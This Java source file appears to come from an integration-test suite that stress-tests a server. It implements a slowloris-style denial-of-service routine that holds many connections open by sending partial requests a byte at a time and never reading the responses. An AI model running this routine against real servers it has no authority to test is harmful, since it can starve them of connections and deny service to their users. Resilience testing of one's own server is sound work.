package org.ibutsu.it.storm;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;

/** Connections that begin a request, go on with a byte now and then, and never read. */
final class SlowConnections implements Attack {

    private static final Duration PAUSE = Duration.ofSeconds(2);

    private final String name;
    private final InetSocketAddress address;
    private final int count;
    private final String opening;
    private final String drip;
    private final StatusCounts responses = new StatusCounts();
    private final List<SocketChannel> connections = new ArrayList<>();
    private final Thread thread = new Thread(this::run, "slow-connections");

    /**
     * Creates an attack.
     *
     * @param name what it does
     * @param server the address of the server
     * @param count how many connections it opens, and opens again when they are closed
     * @param opening what each sends first
     * @param drip what each sends every two seconds; empty for nothing
     */
    SlowConnections(String name, URI server, int count, String opening, String drip) {
        this.name = name;
        this.address = new InetSocketAddress(server.getHost(), server.getPort());
        this.count = count;
        this.opening = opening;
        this.drip = drip;
        thread.setDaemon(true);
    }

    @Override
    public String name() {
        return name;
    }

    @Override
    public void start() {
        thread.start();
    }

    private void run() {
        try {
            while (!Thread.currentThread().isInterrupted()) {
                connections.removeIf(connection -> !send(connection, drip));
                while (connections.size() < count && open()) {
                    // One after the other.
                }
                Thread.sleep(PAUSE.toMillis());
            }
        } catch (InterruptedException e) {
            // This is how the attack ends.
        }
        connections.forEach(SlowConnections::close);
    }

    private boolean open() {
        try {
            SocketChannel connection = SocketChannel.open(address);
            connection.configureBlocking(false);
            connections.add(connection);
            return send(connection, opening);
        } catch (IOException e) {
            return false;
        }
    }

    private boolean send(SocketChannel connection, String text) {
        try {
            ByteBuffer bytes = ByteBuffer.wrap(text.getBytes(StandardCharsets.ISO_8859_1));
            // What does not fit is left out: these clients do not care.
            connection.write(bytes);
            return true;
        } catch (IOException e) {
            responses.unanswered();
            close(connection);
            return false;
        }
    }

    private static void close(SocketChannel connection) {
        try {
            connection.close();
        } catch (IOException e) {
            // It is of no use any more.
        }
    }

    @Override
    public void stop() {
        thread.interrupt();
        try {
            thread.join();
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    @Override
    public StatusCounts responses() {
        return responses;
    }
}
